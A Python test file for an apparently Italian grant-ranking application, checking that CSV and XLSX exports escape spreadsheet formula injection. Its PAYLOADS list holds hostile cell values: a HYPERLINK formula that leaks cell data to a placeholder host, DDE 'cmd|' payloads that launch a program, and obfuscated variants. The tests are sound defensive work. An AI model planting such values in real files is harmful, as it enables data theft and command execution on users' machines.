"""Exports never carry live formulas (CWE-1236): applicants' text is neutralised in CSV and XLSX.

Read back three ways: Python's csv, openpyxl (the cell's stored type), and LibreOffice headless, which
would evaluate a formula when converting (``=1+1`` would come out as ``2``).
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest

from tests.valutazione.reports.synth import ranking
from valutazione.bando import Bando
from valutazione.exports.tables import Sheet, public_sheet, ranking_sheet
from valutazione.exports.writers import csv_bytes, is_formula_like, xlsx_bytes
from valutazione.reports.ranking_view import RankingView, from_ranking

# Each payload as it would reach the file (the importer strips a leading tab or CR: these come from
# a hand-edited file or a package, so the writer must not rely on the importer).
PAYLOADS = (
    '=HYPERLINK("http://example.invalid/?d="&B2,"Dettagli")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
)


def _hostile_view(milano: Bando) -> RankingView:
    """A ranking whose organisations' names, titles and tax codes carry the payloads."""
    view = from_ranking(ranking(milano, len(PAYLOADS) + 4))
    rows = list(view.rows)
    for i, payload in enumerate(PAYLOADS):
        rows[i] = replace(rows[i], applicant=payload, title=payload)
    return replace(view, rows=tuple(rows))


def _sheets(milano: Bando) -> list[Sheet]:
    view = _hostile_view(milano)
    return [ranking_sheet(view, milano), public_sheet(view)]


def test_every_payload_is_recognised() -> None:
    """The one test every writer uses catches each formula start; plain names and numbers are not touched."""
    assert all(is_formula_like(p) for p in PAYLOADS)
    assert not any(is_formula_like(t) for t in ("Associazione Quartiere 1 APS", "97012345671", "Cortili – 2"))


def test_csv_cells_are_escaped_and_numbers_stay_numbers(milano: Bando) -> None:
    """CSV: a formula-like cell gets a leading apostrophe (OWASP); our numbers keep their decimal comma."""
    for sheet in _sheets(milano):
        rows = list(csv.reader(io.StringIO(csv_bytes(sheet).decode("utf-8-sig"), newline=""), delimiter=";"))
        cells = [c for r in rows[1:] for c in r]
        for payload in PAYLOADS:
            assert "'" + payload in cells, (sheet.title, payload)
            assert payload not in cells
        header = rows[0]
        column = header.index("Punteggio" if "Punteggio" in header else "Totale")
        assert all(r[column] == "" or Decimal(r[column].replace(",", ".")) >= 0 for r in rows[1:])


def test_xlsx_cells_are_text_never_formulas(milano: Bando) -> None:
    """XLSX read back with openpyxl: no cell is a formula; payloads are text cells with the quote prefix."""
    from openpyxl import load_workbook

    sheets = _sheets(milano)
    book = load_workbook(io.BytesIO(xlsx_bytes(sheets)))
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                    texts.append(cell.value)
    for payload in PAYLOADS:
        assert payload.replace("\r", "\n") in [t.replace("\r", "\n") for t in texts] or payload in texts, payload
    total = [c.value for c in book["Graduatoria"][1]].index("Totale") + 1
    assert isinstance(book["Graduatoria"].cell(2, total).value, int | float)


def _soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        pytest.skip("LibreOffice (soffice) non installato: .ci/run installa libreoffice-calc")
    return found


def _convert(soffice: str, path: Path, target: str, tmp_path: Path, infilter: str | None = None) -> Path:
    out = tmp_path / "out"
    args = [soffice, f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless"]
    if infilter:
        args.append(f"--infilter={infilter}")
    args += ["--convert-to", target, "--outdir", str(out), str(path)]
    subprocess.run(args, check=True, capture_output=True, timeout=180)
    return out / (path.stem + "." + target.split(":")[0])


LO_CSV = "csv:Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,false,false"


def _no_evaluated_payload(values: list[str]) -> None:
    """No payload was run: each still reads as its own text, and no «2» nor «Dettagli» appeared."""
    joined = "\n".join(values)
    assert "Dettagli" not in [v.strip() for v in values]
    assert "2" not in [v.strip() for v in values]
    for marker in ("HYPERLINK", "cmd|", "SUM(1+1)", "=1+1", "\uff1d1+1"):
        assert marker in joined, marker


def test_libreoffice_evaluates_no_formula_in_the_xlsx(milano: Bando, tmp_path: Path) -> None:
    """XLSX opened by LibreOffice and saved as CSV: every payload is still text, none was computed."""
    soffice = _soffice()
    path = tmp_path / "pubblica.xlsx"
    path.write_bytes(xlsx_bytes([public_sheet(_hostile_view(milano))]))
    text = _convert(soffice, path, LO_CSV, tmp_path).read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    _no_evaluated_payload([c for r in rows[1:] for c in r[1:4]])


def test_libreoffice_evaluates_no_formula_in_the_csv(milano: Bando, tmp_path: Path) -> None:
    """Our CSV imported by LibreOffice (`;`, UTF-8) and saved as XLSX: no cell holds a formula."""
    from openpyxl import load_workbook

    soffice = _soffice()
    path = tmp_path / "pubblica.csv"
    path.write_bytes(csv_bytes(public_sheet(_hostile_view(milano))))
    converted = _convert(soffice, path, "xlsx", tmp_path, infilter="CSV:59,34,76,1")
    ws = load_workbook(converted).active
    values = []
    for row in ws.iter_rows(min_row=2):
        for col, cell in enumerate(row):
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if 1 <= col <= 3:  # name, tax code, title: where the payloads are
                values.append("" if cell.value is None else str(cell.value))
    _no_evaluated_payload(values)
